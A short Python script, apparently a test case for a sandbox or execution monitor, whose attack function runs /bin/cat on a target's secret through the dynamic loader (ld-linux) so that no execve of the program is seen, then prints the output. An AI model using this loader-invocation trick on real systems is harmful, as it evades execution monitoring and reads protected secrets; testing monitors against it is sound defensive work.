# No execve of the program is seen when the loader maps it.
import os
import subprocess

from inside import run, show

LOADERS = {"x86_64": "/lib64/ld-linux-x86-64.so.2", "aarch64": "/lib/ld-linux-aarch64.so.1"}


def attack(target):
    loader = LOADERS[os.uname().machine]
    done = subprocess.run([loader, "/bin/cat", target.secret], capture_output=True)
    show(done.stdout)
    return done.returncode == 0


run(attack)
